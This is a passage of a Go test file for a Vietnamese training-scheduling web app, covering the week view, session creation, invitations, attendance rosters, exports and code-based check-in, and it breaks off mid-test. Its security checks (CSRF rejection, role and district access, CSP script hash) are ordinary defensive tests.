package scheduling_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"html"
	"io"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ctvacademy/academy/modules/app/apptest"
	"github.com/ctvacademy/academy/modules/platform/authz"
	"github.com/ctvacademy/academy/modules/platform/clock"
	"github.com/ctvacademy/academy/modules/platform/mail/mailtest"
	"github.com/ctvacademy/academy/modules/scheduling"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/unicode/norm"
)

var (
	codeShown = regexp.MustCompile(`<p class="code" id="code">(\d{6})</p>`)
	qrImage   = regexp.MustCompile(`<img id="qr" class="qr" src="data:image/png;base64,([A-Za-z0-9+/=]+)"`)
)

// daySection returns the week page's section of one day.
func daySection(t *testing.T, body, day string) string {
	t.Helper()
	m := regexp.MustCompile(`(?s)<section class="day[^"]*" id="day-` + day + `">(.*?)</section>`).FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("the week page has no section for %s", day)
	}
	return m[1]
}

func getSession(t *testing.T, s *apptest.Server, id string) scheduling.Session {
	t.Helper()
	x, err := s.App.Scheduling.Get(context.Background(), authz.All, id)
	if err != nil {
		t.Fatal(err)
	}
	return x
}

func markOf(x scheduling.Session, id string) string {
	for _, m := range x.Attendance {
		if m.CollaboratorID == id {
			return m.Status
		}
	}
	return ""
}

// Monday 7 December 2026, 07:30 in Vietnam: ISO week 2026-W50.
var monday = time.Date(2026, 12, 7, 0, 30, 0, 0, time.UTC)

// wed is 08:00 in Vietnam on the Wednesday after monday.
var wed = time.Date(2026, 12, 9, 1, 0, 0, 0, time.UTC)

func TestWeekPageGroupsByDayWithinScope(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday)})
	coord := s.LoginDemo(t, apptest.Coordinator)
	nt := newSession(t, s, coord, map[string]any{"title": "Tập huấn Nhơn Trạch", "starts_at": wed.Format(time.RFC3339),
		"ends_at": wed.Add(3 * time.Hour).Format(time.RFC3339), "capacity": 30})
	thu := wed.Add(24*time.Hour + 6*time.Hour) // 14:00 on Thursday
	lt := newSession(t, s, coord, map[string]any{"title": "Tập huấn Long Thành", "area_code": "LT", "starts_at": thu.Format(time.RFC3339),
		"ends_at": thu.Add(2 * time.Hour).Format(time.RFC3339)})
	s.Do(t, "POST", "/api/v1/sessions/"+nt.ID+"/invitations", coord, map[string]any{"area_code": "NT"})
	invited := len(getSession(t, s, nt.ID).Invitations)

	// The coordinator's week (the clock's, by default) has both, each on its day.
	r := s.Page(t, "/sessions", coord)
	body := string(r.Body)
	if r.Status != 200 || !strings.Contains(body, "Lịch tập huấn") || !strings.Contains(body, "Tuần 50/2026: 07/12 – 13/12/2026") {
		t.Fatalf("week page: %d\n%s", r.Status, body)
	}
	wedDay := daySection(t, body, "2026-12-09")
	for _, want := range []string{"Thứ Tư, 09/12/2026", `href="/sessions/` + nt.ID + `"`, "Tập huấn Nhơn Trạch", "08:00–11:00",
		"Hội trường UBND huyện Nhơn Trạch", "Huyện Nhơn Trạch", "0/" + strconv.Itoa(invited) + " người nhận lời", "tối đa 30 người"} {
		if !strings.Contains(wedDay, want) {
			t.Errorf("Wednesday lacks %q:\n%s", want, wedDay)
		}
	}
	if !strings.Contains(daySection(t, body, "2026-12-10"), "Tập huấn Long Thành") || strings.Contains(wedDay, "Long Thành") {
		t.Error("the Long Thành session is not on Thursday alone")
	}
	if !strings.Contains(daySection(t, body, "2026-12-07"), "Không có buổi nào.") {
		t.Error("an empty day does not say so")
	}
	for _, link := range []string{`href="/sessions?week=2026-W49"`, `href="/sessions?week=2026-W51"`, `href="/sessions/new"`} {
		if !strings.Contains(body, link) {
			t.Errorf("no link %s", link)
		}
	}
	// The district filter keeps NT's sessions (and network-wide ones).
	body = string(s.Page(t, "/sessions?week=2026-W50&area_code=NT", coord).Body)
	if !strings.Contains(body, nt.ID) || strings.Contains(body, lt.ID) {
		t.Error("the NT filter shows the wrong sessions")
	}
	if r := s.Page(t, "/sessions?week=2026-W51", coord); r.Status != 200 || strings.Contains(string(r.Body), nt.ID) {
		t.Errorf("next week: %d", r.Status)
	}
	if r := s.Page(t, "/sessions?week=50", coord); r.Status != 400 {
		t.Errorf("a bad week: %d", r.Status)
	}
	if r := s.Page(t, "/sessions?week=2026-W50&lang=en", coord); !strings.Contains(string(r.Body), "Wednesday, 09/12/2026") {
		t.Error("the English week page does not name the days in English")
	}

	// A team leader sees their district's, not another's; no filter, no new button.
	leader := s.LoginDemo(t, s.Find(t, "team_leader", "NT").Email)
	r = s.Page(t, "/sessions?week=2026-W50", leader)
	body = string(r.Body)
	if r.Status != 200 || !strings.Contains(body, nt.ID) || strings.Contains(body, lt.ID) || strings.Contains(body, "Long Thành") {
		t.Errorf("the NT team leader's week: %d", r.Status)
	}
	if strings.Contains(body, `href="/sessions/new"`) || strings.Contains(body, `id="area_code"`) {
		t.Error("the team leader is offered staff tools")
	}
	if r := s.Page(t, "/sessions/"+lt.ID, leader); r.Status != 404 {
		t.Errorf("the NT team leader opens an LT session: %d", r.Status)
	}
	if r := s.Page(t, "/sessions", s.LoginDemo(t, s.Find(t, "ctv", "NT").Email)); r.Status != 403 {
		t.Errorf("a CTV opens the week page: %d", r.Status)
	}
}

func TestCreateSessionThroughTheForm(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday)})
	f := s.Forms(t, s.LoginDemo(t, apptest.Coordinator))
	r := f.Get("/sessions/new")
	if r.Status != 200 || !strings.Contains(r.Body, `<option value="KC-101">`) || !strings.Contains(r.Body, `<option value="NT">Huyện Nhơn Trạch</option>`) {
		t.Fatalf("form: %d\n%s", r.Status, r.Body)
	}
	form := url.Values{"title": {"Tập huấn kỹ năng tư vấn"}, "course_code": {"KC-101"}, "date": {"2026-12-09"}, "start": {"08:00"},
		"end": {"11:30"}, "location": {"Hội trường xã Phước An"}, "area_code": {"NT"}, "capacity": {"30"}, "trainer": {"ThS. Lê Văn Hùng"}, "repeat": {""}}
	r = f.Post("/sessions", form)
	id, ok := strings.CutPrefix(r.Location, "/sessions/")
	if r.Status != 303 || !ok || !strings.HasSuffix(id, "?created=1") {
		t.Fatalf("create: %d → %q\n%s", r.Status, r.Location, r.Body)
	}
	id = strings.TrimSuffix(id, "?created=1")
	x := getSession(t, s, id)
	if !x.StartsAt.Equal(time.Date(2026, 12, 9, 1, 0, 0, 0, time.UTC)) || !x.EndsAt.Equal(time.Date(2026, 12, 9, 4, 30, 0, 0, time.UTC)) ||
		x.AreaCode != "NT" || x.Capacity != 30 || x.CourseCode != "KC-101" || x.Trainer != "ThS. Lê Văn Hùng" || x.Recurrence != "" {
		t.Errorf("stored %+v", x)
	}
	page := f.Get(r.Location)
	if page.Status != 200 || !strings.Contains(page.Body, "Đã tạo 1 buổi tập huấn.") || !strings.Contains(page.Body, "08:00–11:30, 09/12/2026") {
		t.Errorf("session page after creating: %d\n%s", page.Status, page.Body)
	}

	// Weekly repetition makes a series.
	form.Set("repeat", "3")
	r = f.Post("/sessions", form)
	if r.Status != 303 || !strings.HasSuffix(r.Location, "?created=3") {
		t.Fatalf("series: %d %q", r.Status, r.Location)
	}
	first := getSession(t, s, strings.TrimSuffix(strings.TrimPrefix(r.Location, "/sessions/"), "?created=3"))
	all, err := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{SeriesID: first.SeriesID})
	if err != nil || len(all) != 3 || first.Recurrence != "FREQ=WEEKLY;COUNT=3" || !all[2].StartsAt.Equal(first.StartsAt.AddDate(0, 0, 14)) {
		t.Errorf("series: %d sessions, %v", len(all), err)
	}

	// Problems come back on the form, in Vietnamese, with what was typed.
	bad := url.Values{"title": {""}, "date": {"2026-12-09"}, "start": {"11:00"}, "end": {"08:00"}, "location": {"Hội trường xã Phước An"},
		"capacity": {"nhiều"}, "repeat": {"99"}}
	r = f.Post("/sessions", bad)
	if r.Status != 400 {
		t.Fatalf("bad form: %d", r.Status)
	}
	for _, want := range []string{"Biểu mẫu còn lỗi", `id="err-title"`, "Hãy nhập tên buổi tập huấn", `id="err-capacity"`, `id="err-repeat"`,
		`value="Hội trường xã Phước An"`, `value="nhiều"`,
		// Each field at fault says so, and which message is its (the page's
		// alert points at "the marked fields").
		`aria-invalid="true" aria-describedby="err-title"`, `aria-invalid="true" aria-describedby="err-capacity"`} {
		if !strings.Contains(r.Body, want) {
			t.Errorf("the bad form lacks %q", want)
		}
	}
	bad.Set("capacity", "")
	bad.Set("repeat", "")
	bad.Set("title", "Buổi sai giờ")
	if r = f.Post("/sessions", bad); r.Status != 400 || !strings.Contains(r.Body, "Giờ kết thúc phải sau giờ bắt đầu") {
		t.Errorf("end before start: %d", r.Status)
	}
	if r = f.Post("/sessions", url.Values{"_csrf": {"forged"}, "title": {"x"}}); r.Status != 403 {
		t.Errorf("a forged CSRF token: %d", r.Status)
	}
	n, _ := s.App.Scheduling.List(context.Background(), authz.All, scheduling.Query{})
	if len(n) != 4 {
		t.Errorf("%d sessions after the bad forms, want 4", len(n))
	}
	if r := s.Page(t, "/sessions/new", s.LoginDemo(t, apptest.Leadership)); r.Status != 403 {
		t.Errorf("leadership opens the form: %d", r.Status)
	}
}

// A class held already may be entered to record its attendance: created,
// the page says that no invitation can be sent and that attendance can be
// taken, and it can.
func TestAPastClassIsCreatedToRecordItsAttendance(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday)})
	coord := s.LoginDemo(t, apptest.Coordinator)
	f := s.Forms(t, coord)
	form := func(date string) url.Values {
		return url.Values{"title": {"Tập huấn đã tổ chức"}, "course_code": {"KC-101"}, "date": {date}, "start": {"08:00"}, "end": {"11:00"},
			"location": {"Hội trường UBND huyện Nhơn Trạch"}, "area_code": {"NT"}}
	}
	past := "Buổi này đã diễn ra nên không gửi được thư mời; anh/chị vẫn có thể điểm danh những người đã dự."
	f.Get("/sessions/new")
	r := f.Post("/sessions", form("2020-01-15"))
	if r.Status != 303 {
		t.Fatalf("create a past class: %d %s", r.Status, r.Body)
	}
	id := strings.TrimPrefix(strings.Split(r.Location, "?")[0], "/sessions/")
	page := f.Get(r.Location)
	if !strings.Contains(page.Body, "Đã tạo 1 buổi tập huấn. "+past) || !strings.Contains(page.Body, `<a href="/sessions/`+id+`/roster">Bảng điểm danh</a>`) {
		t.Errorf("the created page does not say the class is over:\n%s", page.Body)
	}
	if strings.Contains(page.Body, `/invite"`) {
		t.Error("the page of a past class offers the invite form")
	}
	if en := f.Get(r.Location + "&lang=en"); !strings.Contains(en.Body, "This session is over, so no invitation can be sent; you can still record who attended.") {
		t.Error("the English page does not say the class is over")
	}
	// Its attendance is taken from the roster.
	ctv := s.Find(t, "ctv", "NT")
	f.Get("/sessions/" + id + "/roster")
	if r := f.Post("/sessions/"+id+"/roster", url.Values{"walkin": {ctv.ID}, "action": {"save"}}); r.Status != 303 {
		t.Fatalf("mark a past class: %d %s", r.Status, r.Body)
	}
	if st := markOf(getSession(t, s, id), ctv.ID); st != scheduling.AttendPresent {
		t.Errorf("%s is marked %q, want present", ctv.FullName, st)
	}
	// Nobody can be invited to it.
	if r := s.Do(t, "POST", "/api/v1/sessions/"+id+"/invitations", coord, map[string]any{"area_code": "NT"}); r.Status != 422 {
		t.Errorf("invite to a past class: %d", r.Status)
	}
	// A class to come says nothing of the kind.
	f.Get("/sessions/new")
	r = f.Post("/sessions", form("2026-12-10"))
	if page := f.Get(r.Location + "&lang=vi"); r.Status != 303 || !strings.Contains(page.Body, "Đã tạo 1 buổi tập huấn.") || strings.Contains(page.Body, past) {
		t.Errorf("a class to come: %d", r.Status)
	}
}

func TestInviteFromTheSessionPage(t *testing.T) {
	t.Parallel()
	s, coord, x := started(t, apptest.Options{Clock: clock.NewManual(monday)}, wed, 3*time.Hour)
	f := s.Forms(t, coord)
	if r := f.Get("/sessions/" + x.ID); r.Status != 200 || !strings.Contains(r.Body, `action="/sessions/`+x.ID+`/invite"`) {
		t.Fatalf("session page: %d", r.Status)
	}
	r := f.Post("/sessions/"+x.ID+"/invite", url.Values{"area_code": {"NT"}, "role": {""}})
	if r.Status != 303 {
		t.Fatalf("invite: %d %s", r.Status, r.Body)
	}
	invs, err := s.App.Scheduling.Invitations(context.Background(), authz.All, x.ID)
	if err != nil || len(invs) == 0 {
		t.Fatalf("invitations: %d %v", len(invs), err)
	}
	page := f.Get(r.Location)
	if !strings.Contains(page.Body, "Đã mời thêm "+strconv.Itoa(len(invs))+" người (0 người đã được mời trước đó).") {
		t.Errorf("no notice of the invitation:\n%s", page.Body)
	}
	ctv := s.Find(t, "ctv", "NT")
	row := regexp.MustCompile(`(?s)<tr data-id="` + ctv.ID + `">(.*?)</tr>`).FindStringSubmatch(page.Body)
	if row == nil || !strings.Contains(row[1], ctv.FullName) || !strings.Contains(row[1], "Huyện Nhơn Trạch") || !strings.Contains(row[1], "Chưa trả lời") {
		t.Errorf("the invitations table does not show %s: %v", ctv.FullName, row)
	}
	for _, link := range []string{"/sessions/" + x.ID + "/roster", "/sessions/" + x.ID + "/checkin-screen", "/api/v1/attendance/export.csv?session_id=" + x.ID} {
		if !strings.Contains(page.Body, `href="`+link+`"`) {
			t.Errorf("no link to %s", link)
		}
	}
	if r := f.Post("/sessions/"+x.ID+"/invite", url.Values{}); r.Status != 400 || !strings.Contains(r.Body, "Hãy chọn đơn vị hoặc vai trò") {
		t.Errorf("invite nobody: %d", r.Status)
	}
	// Leadership reads the page without the invite form, and may not post it.
	lead := s.Forms(t, s.LoginDemo(t, apptest.Leadership))
	if r := lead.Get("/sessions/" + x.ID); r.Status != 200 || strings.Contains(r.Body, "/invite") {
		t.Errorf("leadership's session page: %d", r.Status)
	}
	if r := lead.Post("/sessions/"+x.ID+"/invite", url.Values{"area_code": {"LT"}}); r.Status != 403 {
		t.Errorf("leadership invites: %d", r.Status)
	}
}

// pickable is the session page's checkbox offering person id, and the
// district fieldset holding it ("" when not offered).
func pickable(body, id string) (area string) {
	m := regexp.MustCompile(`(?s)<fieldset data-area="([A-Z]*)">(.*?)</fieldset>`).FindAllStringSubmatch(body, -1)
	for _, f := range m {
		if strings.Contains(f[2], `name="collaborator_ids" value="`+id+`"`) {
			return f[1]
		}
	}
	return ""
}

func TestInvitePickedPeopleFromTheSessionPage(t *testing.T) {
	t.Parallel()
	s, coord, x := started(t, apptest.Options{Clock: clock.NewManual(monday)}, wed, 3*time.Hour)
	f := s.Forms(t, coord)
	nt, lt := s.Find(t, "ctv", "NT"), s.Find(t, "team_leader", "LT")
	other := s.FindAll(t, "ctv", "NT", 2)[1]
	page := f.Get("/sessions/" + x.ID)
	if page.Status != 200 || !strings.Contains(page.Body, `<details id="pick-people">`) || !strings.Contains(page.Body, "Hoặc chọn từng người để mời") {
		t.Fatalf("the session page offers no list of people: %d\n%s", page.Status, page.Body)
	}
	// Everyone of the network is offered, under their own district.
	if a, b := pickable(page.Body, nt.ID), pickable(page.Body, lt.ID); a != "NT" || b != "LT" {
		t.Errorf("%s is offered under %q, %s under %q", nt.FullName, a, lt.FullName, b)
	}
	if !regexp.MustCompile(`<legend>Huyện Nhơn Trạch \(\d+\)</legend>`).MatchString(page.Body) {
		t.Error("the districts are not named on the list")
	}

	// Picking nobody, or someone unknown, invites nobody.
	if r := f.Post("/sessions/"+x.ID+"/invite", url.Values{"pick": {"people"}}); r.Status != 400 || !strings.Contains(r.Body, "Hãy chọn ít nhất một người để mời.") {
		t.Errorf("nobody picked: %d", r.Status)
	}
	if r := f.Post("/sessions/"+x.ID+"/invite", url.Values{"pick": {"people"}, "collaborator_ids": {nt.ID, "nobody-such"}}); r.Status != 400 ||
		!strings.Contains(r.Body, "không còn trong danh sách cộng tác viên") {
		t.Errorf("an unknown person picked: %d", r.Status)
	}
	if n := len(getSession(t, s, x.ID).Invitations); n != 0 {
		t.Fatalf("%d invitations after the refused forms", n)
	}

	// Two people of two districts: exactly they are invited and mailed.
	r := f.Post("/sessions/"+x.ID+"/invite", url.Values{"pick": {"people"}, "collaborator_ids": {nt.ID, lt.ID}})
	if r.Status != 303 {
		t.Fatalf("invite two: %d %s", r.Status, r.Body)
	}
	page = f.Get(r.Location)
	if !strings.Contains(page.Body, "Đã mời thêm 2 người (0 người đã được mời trước đó).") {
		t.Errorf("no notice of the two invited:\n%s", page.Body)
	}
	got := map[string]bool{}
	for _, inv := range getSession(t, s, x.ID).Invitations {
		got[inv.CollaboratorID] = true
	}
	if len(got) != 2 || !got[nt.ID] || !got[lt.ID] {
		t.Errorf("invited %v, want %s and %s", got, nt.ID, lt.ID)
	}
	for _, p := range []string{nt.ID, lt.ID} {
		if keys := mailKeys(t, s, map[string]any{"_id": scheduling.NoticeKey(scheduling.NoticeInvite, getSession(t, s, x.ID), p)}); len(keys) != 1 {
			t.Errorf("no invitation mail queued for %s", p)
		}
	}
	for _, p := range []string{nt.ID, lt.ID} {
		if !strings.Contains(page.Body, `<tr data-id="`+p+`">`) {
			t.Errorf("%s is not in the invitations table", p)
		}
		if pickable(page.Body, p) != "" {
			t.Errorf("%s, invited, is still offered", p)
		}
	}
	if pickable(page.Body, other.ID) != "NT" {
		t.Errorf("%s, not invited, is no longer offered", other.FullName)
	}
	if r := f.Get("/sessions/" + x.ID + "?lang=en"); !strings.Contains(r.Body, "Or pick people one by one") || !strings.Contains(r.Body, "Invite the people picked") {
		t.Error("the English page does not offer the list in English")
	}
}

func TestInviteWarningCountsPeopleOnce(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{Clock: clock.NewManual(monday)})
	coord := s.LoginDemo(t, apptest.Coordinator)
	f := s.Forms(t, coord)
	district := len(s.FindAll(t, "ctv", "NT", 1)) + len(s.FindAll(t, "team_leader", "NT", 1))
	// Three sessions at the same time; the district invited to each in turn.
	want := []string{"Đã mời thêm " + strconv.Itoa(district) + " người (0 người đã được mời trước đó).",
		strconv.Itoa(district) + " người đã có buổi khác cùng giờ."}
	for i := range 3 {
		x := newSession(t, s, coord, with(times(wed.Add(time.Duration(i)*30*time.Minute), 3*time.Hour), map[string]any{"title": "Buổi trùng giờ " + strconv.Itoa(i+1)}))
		f.Get("/sessions/" + x.ID)
		r := f.Post("/sessions/"+x.ID+"/invite", url.Values{"area_code": {"NT"}})
		if r.Status != 303 {
			t.Fatalf("invite %d: %d", i+1, r.Status)
		}
		notice := regexp.MustCompile(`<p class="notice" role="status" id="invited">(.*?)</p>`).FindStringSubmatch(f.Get(r.Location).Body)
		if notice == nil {
			t.Fatalf("no notice after invitation %d", i+1)
		}
		switch {
		case !strings.Contains(notice[1], want[0]):
			t.Errorf("notice %d: %q, want %q", i+1, notice[1], want[0])
		case i == 0 && strings.Contains(notice[1], "cùng giờ"):
			t.Errorf("the first session warns of a clash: %q", notice[1])
		case i > 0 && !strings.Contains(notice[1], want[1]):
			// The third session clashes with two: each person counts once.
			t.Errorf("notice %d: %q, want %q", i+1, notice[1], want[1])
		}
	}
}

func TestPeopleAreListedInVietnameseOrder(t *testing.T) {
	t.Parallel()
	s, coord, x := started(t, apptest.Options{Clock: clock.NewManual(monday)}, wed, 3*time.Hour)
	names := []string{"Nguyễn Văn An", "Ngô Thị Mai", "Đặng Văn Bình", "Dương Thị Hoa"}
	want := []string{"Dương Thị Hoa", "Đặng Văn Bình", "Ngô Thị Mai", "Nguyễn Văn An"}
	var ids []string
	for i, p := range s.FindAll(t, "ctv", "NT", len(names))[:len(names)] {
		if r := s.Do(t, "PATCH", "/api/v1/collaborators/"+p.ID, coord, map[string]any{"full_name": names[i]}); r.Status != 200 {
			t.Fatalf("rename: %d %s", r.Status, r.Body)
		}
		ids = append(ids, p.ID)
	}
	if r := s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": ids}); r.Status != 200 {
		t.Fatalf("invite: %d %s", r.Status, r.Body)
	}
	check := func(where string, got []string) {
		t.Helper()
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("%s lists %q, want %q", where, got, want)
		}
	}
	f := s.Forms(t, coord)
	var got []string
	for _, m := range regexp.MustCompile(`<li data-id="[^"]+"[^>]*>\s*<strong>(.*?)</strong>`).FindAllStringSubmatch(f.Get("/sessions/"+x.ID+"/roster").Body, -1) {
		got = append(got, html.UnescapeString(m[1]))
	}
	check("the roster", got)
	got = nil
	for _, m := range regexp.MustCompile(`<tr data-id="[^"]+"><td>(.*?)</td>`).FindAllStringSubmatch(f.Get("/sessions/"+x.ID).Body, -1) {
		got = append(got, html.UnescapeString(m[1]))
	}
	check("the invitations table", got)
	r := s.Do(t, "GET", "/api/v1/attendance/export.csv?session_id="+x.ID, coord, nil)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\xef\xbb\xbf")))).ReadAll()
	if r.Status != 200 || err != nil {
		t.Fatalf("csv: %d %v", r.Status, err)
	}
	got = nil
	for _, row := range rows[1:] {
		got = append(got, row[7])
	}
	check("the attendance CSV", got)
	r = s.Do(t, "GET", "/api/v1/attendance/export.xlsx?session_id="+x.ID, coord, nil)
	book, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if r.Status != 200 || err != nil {
		t.Fatalf("xlsx: %d %v", r.Status, err)
	}
	sheet, err := book.GetRows(book.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	got = nil
	for _, row := range sheet[1:] {
		got = append(got, row[7])
	}
	check("the attendance XLSX", got)
}

func TestRosterMarksAttendanceInBulk(t *testing.T) {
	t.Parallel()
	start := classStart
	s, coord, x, clk := class(t, -2*time.Hour)
	var nt []string
	for _, c := range s.Collaborators(t) {
		if c.AreaCode == "NT" && !c.Archived {
			nt = append(nt, c.ID)
		}
	}
	if len(nt) < 4 {
		t.Fatalf("NT has %d people", len(nt))
	}
	a, b, walkIn := nt[0], nt[1], nt[2]
	s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": []string{a, b}})

	f := s.Forms(t, coord)
	roster := "/sessions/" + x.ID + "/roster"
	r := f.Get(roster)
	if r.Status != 200 || !strings.Contains(r.Body, `name="st.`+a+`" value="present"`) || !strings.Contains(r.Body, `<option value="`+walkIn+`">`) {
		t.Fatalf("roster: %d\n%s", r.Status, r.Body)
	}
	if strings.Contains(r.Body, `<option value="`+a+`">`) {
		t.Error("an invitee is offered as a walk-in")
	}
	// Two hours early: nothing can be marked yet.
	if r := f.Post(roster, url.Values{"st." + a: {"present"}, "action": {"save"}}); r.Status != 422 || !strings.Contains(r.Body, "Chỉ điểm danh được từ 30 phút trước giờ bắt đầu.") {
		t.Errorf("marking before the start: %d", r.Status)
	}

	clk.Set(start.Add(10 * time.Minute))
	r = f.Post(roster, url.Values{"st." + a: {"late"}, "walkin": {walkIn}, "action": {"save"}})
	if r.Status != 303 || r.Location != roster+"?saved=2" {
		t.Fatalf("save: %d %q %s", r.Status, r.Location, r.Body)
	}
	got := getSession(t, s, x.ID)
	if markOf(got, a) != "late" || markOf(got, walkIn) != "present" || markOf(got, b) != "" {
		t.Fatalf("marks %+v", got.Attendance)
	}
	page := f.Get(r.Location)
	if !strings.Contains(page.Body, "Đã lưu 2 dòng điểm danh.") || !strings.Contains(page.Body, `name="st.`+a+`" value="late" checked`) ||
		!strings.Contains(page.Body, `<li data-id="`+walkIn+`" data-status="present">`) {
		t.Errorf("the sheet after saving:\n%s", page.Body)
	}
	// "Mark all unmarked present" keeps the marks already made.
	r = f.Post(roster, url.Values{"st." + a: {"late"}, "st." + walkIn: {"present"}, "action": {"all_present"}})
	got = getSession(t, s, x.ID)
	if r.Status != 303 || r.Location != roster+"?saved=1" || markOf(got, b) != "present" || markOf(got, a) != "late" {
		t.Errorf("all present: %d %q %+v", r.Status, r.Location, got.Attendance)
	}
	// A walk-in by code; an unknown code is refused.
	d := s.Collaborators(t)
	var code, codeID string
	for _, c := range d {
		if c.ID == nt[3] {
			code, codeID = c.Code, c.ID
		}
	}
	if r := f.Post(roster, url.Values{"walkin_code": {strings.ToLower(code)}, "action": {"save"}}); r.Status != 303 || markOf(getSession(t, s, x.ID), codeID) != "present" {
		t.Errorf("walk-in by code %s: %d", code, r.Status)
	}
	// Said beside the field (at the end of the sheet) too, the code kept.
	if r := f.Post(roster, url.Values{"walkin_code": {"ZZ-999"}}); r.Status != 400 || !strings.Contains(r.Body, "Không tìm thấy cộng tác viên có mã này.") ||
		!strings.Contains(r.Body, `value="ZZ-999" autocapitalize="characters" autocomplete="off" aria-invalid="true" aria-describedby="err-walkin_code"`) ||
		!strings.Contains(r.Body, `<p class="errors" id="err-walkin_code">Không tìm thấy cộng tác viên có mã này.</p>`) {
		t.Errorf("unknown code: %d", r.Status)
	}
	if r := f.Post(roster, url.Values{"action": {"save"}}); r.Status != 303 || r.Location != roster+"?saved=0" {
		t.Errorf("nothing changed: %d %q", r.Status, r.Location)
	}
	before := markOf(getSession(t, s, x.ID), b)
	if r := f.Post(roster, url.Values{"st." + b: {"holiday"}, "action": {"save"}}); r.Status != 400 || !strings.Contains(r.Body, "Có dòng điểm danh không hợp lệ nên chưa lưu gì.") {
		t.Errorf("a status the sheet does not offer: %d, want 400 with the message", r.Status)
	}
	if got := markOf(getSession(t, s, x.ID), b); got != before {
		t.Errorf("a refused sheet changed a mark: %q → %q", before, got)
	}

	// The NT team leader marks too; another district's may not open it.
	leader := s.Forms(t, s.LoginDemo(t, s.Find(t, "team_leader", "NT").Email))
	leader.Get(roster)
	if r := leader.Post(roster, url.Values{"st." + b: {"excused"}}); r.Status != 303 || markOf(getSession(t, s, x.ID), b) != "excused" {
		t.Errorf("the NT team leader marks: %d", r.Status)
	}
	if r := s.Page(t, roster, s.LoginDemo(t, s.Find(t, "team_leader", "LT").Email)); r.Status != 404 {
		t.Errorf("the LT team leader opens an NT roster: %d", r.Status)
	}
}

func TestCheckInWithTheScreenCode(t *testing.T) {
	t.Parallel()
	start := classStart
	s, coord, x, clk := class(t, -10*time.Minute)
	ctv := s.Find(t, "ctv", "NT")
	s.Do(t, "POST", "/api/v1/sessions/"+x.ID+"/invitations", coord, map[string]any{"collaborator_ids": []string{ctv.ID}})

	// The screen shows the current code and a QR code of the check-in page.
	r := s.Page(t, "/sessions/"+x.ID+"/checkin-screen", coord)
	body := string(r.Body)
	want, until, _, err := s.App.Scheduling.CurrentCode(context.Background(), authz.All, x.ID)
	if err != nil {
		t.Fatal(err)
	}
	if m := codeShown.FindStringSubmatch(body); r.Status != 200 || m == nil || m[1] != want {
		t.Fatalf("screen: %d, code %v, want %s\n%s", r.Status, m, want, body)
	}
	if !strings.Contains(body, `<strong id="valid-until">`+until.In(time.FixedZone("ICT", 7*3600)).Format("15:04")+`</strong>`) {
		t.Error("the screen does not say until when the code is taken")
	}
	m := qrImage.FindStringSubmatch(html.UnescapeString(body))
	if m == nil {
		t.Fatalf("no QR code image:\n%s", body)
	}
	png, err := base64.StdEncoding.DecodeString(m[1])
	if err != nil || !bytes.HasPrefix(png, []byte("\x89PNG\r\n\x1a\n")) {
		t.Errorf("the QR code is not a PNG: %v", err)
	}
	// It reloads itself by a script the CSP allows; a meta refresh (which
	// axe-core flags) only inside <noscript>, for a browser without it.
	script := regexp.MustCompile(`<script>([^<]*location\.reload\(\)[^<]*)</script>`).FindStringSubmatch(body)
	sum := sha256.Sum256([]byte(""))
	if script != nil {
		sum = sha256.Sum256([]byte(script[1]))
	}
	if script == nil || !strings.Contains(body, `<noscript><meta http-equiv="refresh" content="20"></noscript>`) ||
		strings.Count(body, `http-equiv="refresh"`) != 1 || r.Header.Get("Refresh") != "" || !strings.Contains(body, s.URL+"/checkin/"+x.ID) {
		t.Error("the screen does not refresh itself by a script (meta refresh only in noscript) or link the check-in page")
	}
	if csp := r.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'") {
		t.Errorf("the CSP does not allow the screen's script: %s", csp)
	}
	if r := s.Page(t, "/sessions/"+x.ID+"/checkin-screen", s.LoginDemo(t, ctv.Email)); r.Status != 403 {
		t.Errorf("a CTV opens the screen: %d", r.Status)
	}

	// The invitee finds the session among theirs, with the check-in link.
	f := s.Forms(t, s.LoginDemo(t, ctv.Email))
	mine := f.Get("/me/sessions")
	if mine.Status != 200 || !strings.Contains(mine.Body, `href="/checkin/`+x.ID+`"`) || !strings.Contains(mine.Body, s.App.Scheduling.RSVPURL(x.ID, ctv.ID)) {
		t.Errorf("my sessions: %d\n%s", mine.Status, mine.Body)
	}
	page := "/checkin/" + x.ID
	if r := f.Get(page); r.Status != 200 || !strings.Contains(r.Body, `id="checkin-form"`) {
		t.Fatalf("check-in page: %d", r.Status)
	}
	wrong := "000000"
	if want == wrong {
		wrong = "111111"
	}
	if r := f.Post(page, url.Values{"code": {wrong}}); r.Status != 422 || !strings.Contains(r.Body, "Mã không đúng hoặc đã hết hạn.") {
		t.Errorf("a wrong code: %d\n%s", r.Status, r.Body)
	}
	if r := f.Post(page, url.Values{"code": {"12"}}); r.Status != 400 || !strings.Contains(r.Body, "Mã điểm danh gồm 6 chữ số.") {
		t.Errorf("a short code: %d", r.Status)
	}
	if markOf(getSession(t, s, x.ID), ctv.ID) != "" {
		t.Fatal("a refused code marked attendance")
	}
	r2 := f.Post(page, url.Values{"code": {want}})
	if r2.Status != 303 || r2.Location != page {
		t.Fatalf("check in: %d %q\n%s", r2.Status, r2.Location, r2.Body)
	}
	if done := f.Get(page); !strings.Contains(done.Body, `<p class="notice" role="status" id="result">Đã điểm danh: Có mặt</p>`) {
		t.Errorf("after checking in:\n%s", done.Body)
	}
	if markOf(getSession(t, s, x.ID), ctv.ID) != "present" {
